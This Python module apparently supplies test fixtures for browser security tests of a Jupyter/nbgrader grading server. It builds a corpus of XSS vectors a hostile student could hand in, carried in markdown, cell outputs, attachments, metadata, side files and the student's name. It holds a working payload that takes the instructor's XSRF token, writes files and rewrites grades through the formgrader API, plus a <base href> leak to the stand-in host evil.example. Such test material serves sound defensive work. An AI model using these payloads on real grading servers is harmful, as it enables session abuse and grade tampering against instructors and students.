"""Script-injection vectors a hostile student can hand in, for the browser tests.

Every vector carries the same payload (`payload_js`): if it runs in the Jupyter server's origin
with the instructor's session, it writes `pwned-<vector>.txt` in the server's root through the
contents API and sets every grade it can reach through the formgrader's API. A vector "worked"
when its file exists; the grades are compared with the gradebook's before the pages were opened.

A vector lives in a notebook cell (markdown, a code cell's outputs, attachments, metadata), in a
file handed in beside the notebook, or in the student's name. Output vectors are written twice:
as the code that makes the output when the autograder runs it, and as the output itself, so a
notebook can also be served exactly as the student crafted it (the corpus's live control).
"""
from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from urllib.parse import quote

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from nnlab.demo import submissions
from nnlab.demo.term import WithFiles

ASSIGNMENT = "perceptron"
ATTACKER_HOST = "evil.example"  # a request here means the page leaked to the attacker


def pwned_file(vector: str) -> str:
    return f"pwned-{vector}.txt"


def payload_js(vector: str) -> str:
    """Write a file and change grades with the instructor's session (once per page)."""
    return ("(async()=>{const v=%s;if(window['nnlab_'+v])return;window['nnlab_'+v]=1;"
            "console.log('NNLAB-PWNED '+v);"
            # not '/api/...': a <base> would move it (and blob: documents have no host of their own)
            "const o=location.origin&&location.origin!=='null'?location.origin:'';"
            # the top page's cookie: a blob: frame has none of its own; an opaque origin throws
            "let m=null;for(const d of [()=>top.document,()=>document]){try{m=m||d().cookie.match(/(?:^|;\\s*)_xsrf=([^;]*)/);}catch(e){}}"
            "const h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};"
            "await fetch(o+'/api/contents/'+%s,{method:'PUT',headers:h,credentials:'include',"
            "body:JSON.stringify({type:'file',format:'text',content:v})});"
            "let s=window.submission_id?[window.submission_id]:[];"
            "if(!s.length){const r=await fetch(o+'/formgrader/api/submitted_notebooks/%s/%s',{headers:h});"
            "s=(await r.json()).map(n=>n.id);}"
            "for(const id of s){const g=await (await fetch(o+'/formgrader/api/grades?submission_id='+id,"
            "{headers:h})).json();for(const x of g){await fetch(o+'/formgrader/api/grade/'+x.id,"
            "{method:'PUT',headers:h,body:JSON.stringify({manual_score:77,extra_credit:7})});}}})()"
            % (json.dumps(vector), json.dumps(pwned_file(vector)), ASSIGNMENT, ASSIGNMENT))


def js(vector: str) -> str:
    """The payload as one expression with no quote of its own, safe in any attribute or URL."""
    encoded = base64.b64encode(payload_js(vector).encode()).decode()
    return f"eval(atob('{encoded}'))"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@dataclass(frozen=True)
class Vector:
    name: str
    where: str  # what the student controls: markdown, output <mime>, attachment, metadata, file, name
    cells: tuple = ()  # cells appended to the student's notebook
    files: dict = field(default_factory=dict)  # files handed in beside the notebook
    first_name: str | None = None  # the student's name in the class list
    # True where the browser itself keeps the payload out of the server's origin even when the
    # markup reaches the page unchanged (data: documents, SVG as an image, javascript: in
    # meta refresh): counted apart, never as "blocked by us".
    inert_in_browser: bool = False
    needs_click: bool = False  # the instructor has to click a link or button (the test does)
    navigates: bool = False  # the payload takes the page elsewhere (its student gets a page of their own)
    alone: bool = False  # changes the whole page (a <base>): a student of its own, so it spoils no other vector
    leaks_only: bool = False  # runs no script: what it does is send the page's requests to the attacker
    # nbgrader itself refuses the notebook (no autograded copy, the formgrader shows its 404 page)
    fails_autograde: bool = False


def markdown(name: str, html: str, **kw) -> Vector:
    return Vector(name, "markdown cell", cells=(new_markdown_cell(f"<!-- {name} -->\n\n{html}\n"),), **kw)


def output_code(output: dict) -> str:
    """Code that makes exactly `output` when the notebook is run (kernel or nnlab's sandbox)."""
    if output["output_type"] == "error":
        return f"raise {output['ename']}({output['evalue']!r})"
    bundle, meta = dict(output["data"]), dict(output.get("metadata", {}))
    if output["output_type"] == "display_data":
        return ("from IPython.display import display\n"
                f"display({bundle!r}, raw=True, metadata={meta!r})")
    return ("class Shown:\n"
            "    def _repr_mimebundle_(self, include=None, exclude=None):\n"
            f"        return {bundle!r}, {meta!r}\n"
            "Shown()")


def produced(name: str, output: dict, **kw) -> Vector:
    mime = "error" if output["output_type"] == "error" else ", ".join(k for k in output["data"] if k != "text/plain")
    cell = new_code_cell(f"# {name}\n" + output_code(output), outputs=[output],
                         execution_count=1 if output["output_type"] == "execute_result" else None)
    return Vector(name, f"code output ({output['output_type']}, {mime})", cells=(cell,), **kw)


def display_data(data: dict, metadata: dict | None = None) -> dict:
    return new_output("display_data", data={"text/plain": "<display>", **data}, metadata=metadata or {})


def execute_result(data: dict, metadata: dict | None = None) -> dict:
    return new_output("execute_result", data={"text/plain": "<result>", **data}, metadata=metadata or {},
                      execution_count=1)


def svg_with_script(v: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
            f'<script>{js(v)}</script><rect width="20" height="20"/></svg>')


def evil_html(v: str) -> bytes:
    return f"<!doctype html><html><body><p>my extra plot</p><script>{js(v)}</script></body></html>".encode()


def attachment_cell(name: str, attachment: str, mime: str, content: str, source: str) -> Vector:
    cell = new_markdown_cell(f"<!-- {name} -->\n\n{source}\n")
    cell["attachments"] = {attachment: {mime: b64(content)}}
    return Vector(name, f"attachment ({mime})", cells=(cell,))


def metadata_cell(name: str, where: str, metadata: dict, **kw) -> Vector:
    cell = new_markdown_cell(f"<!-- {name} -->\n\nA note of mine.\n")
    cell["metadata"] = metadata
    return Vector(name, f"cell metadata ({where})", cells=(cell,), **kw)


def corpus() -> list[Vector]:
    """Every vector, each with its own name (the name is in its payload and its file)."""
    v = js
    vectors = [
        # -- markdown answers: raw HTML that markdown passes through -------------------------
        markdown("md-img-onerror", f'<img src="x" onerror="{v("md-img-onerror")}">'),
        markdown("md-script", f"<script>{v('md-script')}</script>"),
        markdown("md-svg-onload", f'<svg onload="{v("md-svg-onload")}"></svg>'),
        markdown("md-details-ontoggle", f'<details open ontoggle="{v("md-details-ontoggle")}"><summary>s</summary>x</details>'),
        markdown("md-iframe-srcdoc", f'<iframe srcdoc="<script>parent.{v("md-iframe-srcdoc")}</script>"></iframe>'),
        markdown("md-style-onload", f'<style onload="{v("md-style-onload")}">.nothing{{color:red}}</style>'),
        markdown("md-mxss-noscript",
                 f'<noscript><p title="</noscript><img src=x onerror={v("md-mxss-noscript")}>"></p></noscript>'),
        # in SVG a <style> holds markup: a sanitizer that reads it as CSS text lets the <img> out
        markdown("md-mxss-svg-style", f'<svg><style><img src=x onerror="{v("md-mxss-svg-style")}"></style></svg>'),
        markdown("md-markdown-image-breakout", f'![plot](x"onerror="{v("md-markdown-image-breakout")})'),
        markdown("md-javascript-link", f"[my derivation](javascript:{v('md-javascript-link')})", needs_click=True),
        markdown("md-javascript-link-entity", f'<a href="jav&#x09;ascript:{v("md-javascript-link-entity")}">see</a>',
                 needs_click=True),
        markdown("md-math-href", f'<math><mtext><a href="javascript:{v("md-math-href")}">proof</a></mtext></math>',
                 needs_click=True),
        markdown("md-form-action", f'<form action="javascript:{v("md-form-action")}"><button>send</button></form>',
                 needs_click=True),
        markdown("md-object-data-html",
                 f'<object data="data:text/html;base64,{b64("<script>" + v("md-object-data-html") + "</script>")}"></object>',
                 inert_in_browser=True),
        markdown("md-embed-data-svg",
                 f'<embed src="data:image/svg+xml;base64,{b64(svg_with_script("md-embed-data-svg"))}">',
                 inert_in_browser=True),
        markdown("md-iframe-data-html",
                 f'<iframe src="data:text/html;base64,{b64("<script>" + v("md-iframe-data-html") + "</script>")}"></iframe>',
                 inert_in_browser=True),
        markdown("md-base-href", f'<base href="http://{ATTACKER_HOST}/"><img src="pixel.png" alt="">',
                 alone=True, leaks_only=True),
        # -- files handed in next to the notebook, reached by a relative URL: the formgrader
        #    serves the autograded folder at /formgrader/submissions/<id>/<file>
        Vector("file-script-src", "file beside the notebook (evil.js) + markdown <script src>",
               cells=(new_markdown_cell('<!-- file-script-src -->\n\n<script src="evil.js"></script>\n'),),
               files={"evil.js": v("file-script-src").encode()}),
        Vector("file-iframe", "file beside the notebook (frame.html) + markdown <iframe src>",
               cells=(new_markdown_cell('<!-- file-iframe -->\n\n<iframe src="frame.html"></iframe>\n'),),
               files={"frame.html": evil_html("file-iframe").replace(b"<script>", b"<script>parent.")}),
        Vector("file-object", "file beside the notebook (plot.svg) + markdown <object data>",
               cells=(new_markdown_cell('<!-- file-object -->\n\n<object data="plot.svg"></object>\n'),),
               files={"plot.svg": svg_with_script("file-object").encode()}),
        Vector("file-link", "file beside the notebook (derivation.html) + a plain markdown link to it",
               cells=(new_markdown_cell("<!-- file-link -->\n\nMy derivation: [derivation](derivation.html)\n"),),
               files={"derivation.html": evil_html("file-link")}, needs_click=True),
        # -- what the student's code displays (every MIME type nbconvert renders, and some it does not)
        produced("out-html-script", display_data({"text/html": f"<script>{v('out-html-script')}</script>"})),
        produced("out-html-img-result", execute_result({"text/html": f'<img src="x" onerror="{v("out-html-img-result")}">'})),
        produced("out-mxss-noscript", display_data({"text/html":
                 f'<noscript><p title="</noscript><img src=x onerror={v("out-mxss-noscript")}>"></p></noscript>'})),
        produced("out-svg-script", display_data({"image/svg+xml": svg_with_script("out-svg-script")})),
        produced("out-svg-onload", execute_result({"image/svg+xml":
                 f'<svg xmlns="http://www.w3.org/2000/svg" onload="{v("out-svg-onload")}"><rect width="5" height="5"/></svg>'})),
        produced("out-markdown", display_data({"text/markdown": f'<img src="x" onerror="{v("out-markdown")}">'})),
        produced("out-latex", display_data({"text/latex": f'$x$<img src="x" onerror="{v("out-latex")}">'})),
        produced("out-javascript", display_data({"application/javascript": v("out-javascript")})),
        produced("out-widget-view", display_data({"application/vnd.jupyter.widget-view+json": {
                 "model_id": f"</script><script>{v('out-widget-view')}</script>", "version_major": 2, "version_minor": 0}})),
        produced("out-unknown-mime", display_data({"application/x-evil": f'<img src="x" onerror="{v("out-unknown-mime")}">'})),
        produced("out-png-breakout", display_data({"image/png": f'x" onerror="{v("out-png-breakout")}'})),
        produced("out-jpeg-breakout", execute_result({"image/jpeg": f'x" onerror="{v("out-jpeg-breakout")}'})),
        produced("out-png-width", display_data({"image/png": "iVBORw0KGgo="},
                                               {"image/png": {"width": f'1 onerror={v("out-png-width")}'}})),
        produced("out-error-evalue", new_output("error", ename="ValueError",
                 evalue=f'<img src="x" onerror="{v("out-error-evalue")}">',
                 traceback=[f'ValueError: <img src="x" onerror="{v("out-error-evalue")}">'])),
        # -- cell attachments ------------------------------------------------------------
        attachment_cell("att-svg", "plot.svg", "image/svg+xml", svg_with_script("att-svg"), "![plot](attachment:plot.svg)"),
        attachment_cell("att-html", "page.html", "text/html", f"<script>{v('att-html')}</script>",
                        "![page](attachment:page.html)"),
        attachment_cell("att-name-breakout", f'x" onerror="{v("att-name-breakout")}', "image/png", "x",
                        f'<img src="attachment:x&quot; onerror=&quot;{v("att-name-breakout")}">'),
        # -- cell metadata nbgrader's template writes into attributes --------------------
        # nbgrader's template writes the grade_id of task, solution and grade cells into id="...";
        # such a cell with a grade_id nbgrader does not know fails the student's autograde outright
        # (OverwriteCells drops the id, then looks it up), so it reaches the formgrader only as handed in
        metadata_cell("meta-grade-id", "nbgrader grade_id of a task cell", {"nbgrader": {
            "grade": False, "solution": False, "locked": True, "schema_version": 3, "task": True, "points": 0,
            "grade_id": f'x"><img src="x" onerror="{v("meta-grade-id")}"><b x="'}}, fails_autograde=True),
        metadata_cell("meta-tags", "tags", {"tags": [f'x" onanimationstart="{v("meta-tags")}" style="animation-name:progress-bar-stripes']}),
        # -- a link to a formgrader page that writes part of its address into a script unescaped
        #    (manage_students.tpl: var student_id = "{{ student_id }}"): reflected, past any
        #    sanitizer that keeps same-site links
        markdown("link-reflected-student-id", "[my grades](/formgrader/manage_students/"
                 + quote(f'x";{v("link-reflected-student-id")};//', safe="") + ")",
                 needs_click=True, navigates=True),
        # -- the name in the class list (the formgrader's server-side nav writes it) -----------
        Vector("name-first", "student first name", first_name=f"<img src=x onerror={v('name-first')}>"),
    ]
    names = [x.name for x in vectors]
    assert len(names) == len(set(names)), "two vectors with one name"
    return vectors


def navigation_vectors() -> list[Vector]:
    """Vectors that take the instructor's page elsewhere: each needs a student of its own."""
    return [
        Vector("md-meta-refresh-file", "markdown <meta refresh> to a file beside the notebook",
               cells=(new_markdown_cell('<!-- md-meta-refresh-file -->\n\n'
                                        '<meta http-equiv="refresh" content="1;url=refresh.html">\n'),),
               files={"refresh.html": evil_html("md-meta-refresh-file")}, navigates=True),
        Vector("md-meta-refresh-js", "markdown <meta refresh> to a javascript: URL",
               cells=(new_markdown_cell('<!-- md-meta-refresh-js -->\n\n'
                                        f'<meta http-equiv="refresh" content="1;url=javascript:{js("md-meta-refresh-js")}">\n'),),
               inert_in_browser=True, navigates=True),
    ]


# -- what must still show: a figure and a plain table ------------------------------------
LEGIT_TABLE_TEXT = "epoch-loss-table"
FIGURE_CODE = ("import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
               "plt.figure(figsize=(2, 2))\nplt.plot([0, 1, 2], [3, 1, 0.5])\nplt.title('loss')\nplt.show()")
TABLE_HTML = (f"<table><thead><tr><th>{LEGIT_TABLE_TEXT}</th><th>loss</th></tr></thead>"
              "<tbody><tr><td>1</td><td>0.50</td></tr><tr><td>2</td><td>0.25</td></tr></tbody></table>")
# 1x1 PNG: stands for the figure in the notebook served as crafted (the autograder draws the real one)
TINY_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def legit_cells() -> list:
    figure = new_code_cell(FIGURE_CODE, outputs=[new_output("display_data", data={"image/png": TINY_PNG,
                                                                                   "text/plain": "<Figure>"})])
    table = new_code_cell(produced("legit-table", display_data({"text/html": TABLE_HTML})).cells[0].source.replace(
        "# legit-table\n", ""), outputs=[display_data({"text/html": TABLE_HTML})])
    return [figure, table]


def hand_in(release, source, vectors: list[Vector]) -> WithFiles:
    """The student's files: right answers, the vectors' cells after them, a figure and a table."""
    nb = submissions.correct(release, source)
    nb.cells = list(nb.cells) + legit_cells() + [c for x in vectors for c in x.cells]
    files = {name: content for x in vectors for name, content in x.files.items()}
    return WithFiles(nb, files)
